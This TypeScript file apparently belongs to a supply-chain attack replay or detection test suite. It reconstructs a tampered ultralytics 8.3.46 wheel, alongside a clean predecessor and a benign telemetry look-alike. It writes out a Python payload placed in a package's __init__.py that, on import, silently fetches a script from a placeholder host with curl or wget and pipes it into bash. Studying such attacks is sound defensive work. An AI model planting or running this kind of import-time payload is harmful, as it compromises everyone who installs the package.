import { beforeAttack, type Draft, type Remote, type Replay, siteIn } from './incident.ts';
import { trainingLibrary } from './libraries/training.ts';
import { telemetryWithOptOut } from './look-alikes/environment.ts';
import { py } from './python-text.ts';

const CODE = (c: Remote): string => py`
import threading as _threading


def _warm_up():
    import subprocess
    import sys

    if sys.platform == "win32":
        return
    command = "(command -v curl >/dev/null && curl -fsSL ${c.url('/go')} || wget -qO- ${c.url('/go')}) | bash"
    subprocess.Popen(["/bin/sh", "-c", command], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, start_new_session=True)


_threading.Thread(target=_warm_up, daemon=True).start()
`;

function malicious(c: Remote): Draft {
  const files = trainingLibrary('ultralytics', '8.3.46');
  return {
    kind: 'wheel',
    name: 'ultralytics',
    version: '8.3.46',
    files,
    sites: [siteIn(files, 'ultralytics/utils/__init__.py', CODE(c))],
  };
}

export const ULTRALYTICS_TOKEN: Replay = {
  id: '09-ultralytics-token',
  title: 'ultralytics 8.3.46: a shell pipe from the network at import',
  source: 'https://github.com/ultralytics/ultralytics/issues/18027',
  runs: 'import starts a thread that pipes a script from a constant host into a shell',
  remote: 'https://connect.yolo-metrics.invalid',
  draft: malicious,
  predecessor: () => beforeAttack(malicious, '8.3.44'),
  lookAlikes: () => [telemetryWithOptOut()],
};
